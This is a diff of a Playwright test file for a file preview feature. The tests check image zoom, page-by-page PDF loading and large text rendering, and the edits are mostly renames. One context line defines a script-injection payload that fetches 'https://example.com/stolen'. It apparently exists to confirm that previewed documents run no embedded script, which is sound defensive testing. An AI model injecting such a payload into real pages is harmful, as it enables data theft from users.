@@ -8,7 +8,7 @@ const MIB = 1024 * 1024;
 const HACK = "window.top.__hacked = true; fetch('https://example.com/stolen')";
 
 /** Collects the `Range` headers of preview requests from now on. */
-function rangesAsked(page: Page): (string | undefined)[] {
+function recordRanges(page: Page): (string | undefined)[] {
   const ranges: (string | undefined)[] = [];
   page.on('request', (request) => {
     if (request.url().includes('/api/preview/')) ranges.push(request.headers().range);
@@ -44,13 +44,13 @@ test('zooms a picture by buttons, keys, double click and wheel, and hides its co
   await picture.dblclick();
   await expect(level).toHaveText('200%');
   await atRest(visitor);
-  const before = await picture.boundingBox();
+  const boxBefore = await picture.boundingBox();
   const { x = 0, y = 0, width = 0, height = 0 } = (await pane(visitor, 'photo.png').boundingBox()) ?? {};
   await visitor.mouse.move(x + width / 2, y + height / 2);
   await visitor.mouse.down();
   await visitor.mouse.move(x + width / 2 + 40, y + height / 2, { steps: 3 });
   await visitor.mouse.up();
-  await expect.poll(async () => ((await picture.boundingBox())?.x ?? 0) - (before?.x ?? 0)).toBeGreaterThan(30);
+  await expect.poll(async () => ((await picture.boundingBox())?.x ?? 0) - (boxBefore?.x ?? 0)).toBeGreaterThan(30);
   await visitor.keyboard.press('ArrowRight');
   await expect(level).toHaveText('200%');
   await visitor.mouse.wheel(0, -100);
@@ -73,7 +73,7 @@ test('loads a PDF page by page, and runs nothing in it', async ({ page, newVisit
     dialogs.push(dialog.message());
     return dialog.dismiss();
   });
-  const ranges = rangesAsked(visitor);
+  const ranges = recordRanges(visitor);
   const answers: Promise<number>[] = [];
   visitor.on('requestfinished', (request) => {
     if (request.url().includes('/api/preview/')) answers.push(request.sizes().then((sizes) => sizes.responseBodySize));
@@ -112,7 +112,7 @@ test('shows a long text by the megabyte, in any encoding and without broken char
     textFile('code.ts', 'const answer: number = 42; // why\n'),
     textFile('mystery.xyz', 'only the server knows', 'application/json'),
   ]);
-  const ranges = rangesAsked(visitor);
+  const ranges = recordRanges(visitor);
   await show(visitor, 'long.txt');
   const text = visitor.getByRole('region', { name: 'Text of long.txt' });
   await expect(text).toContainText('first line');
@@ -132,7 +132,7 @@ test('shows a long text by the megabyte, in any encoding and without broken char
   await show(visitor, 'latin.txt');
   await expect(visitor.getByRole('region', { name: 'Text of latin.txt' })).toContainText('Grüße aus Köln, schöne Füße');
   await show(visitor, 'program.txt');
-  await expect(visitor.getByText('This kind of file cannot be previewed.')).toBeVisible();
+  await expect(visitor.getByText('This kind of file can’t be previewed.')).toBeVisible();
   await show(visitor, 'data.json');
   const json = visitor.getByRole('region', { name: 'Text of data.json' });
   await expect(json).toContainText('"id": 12345678901234567890');
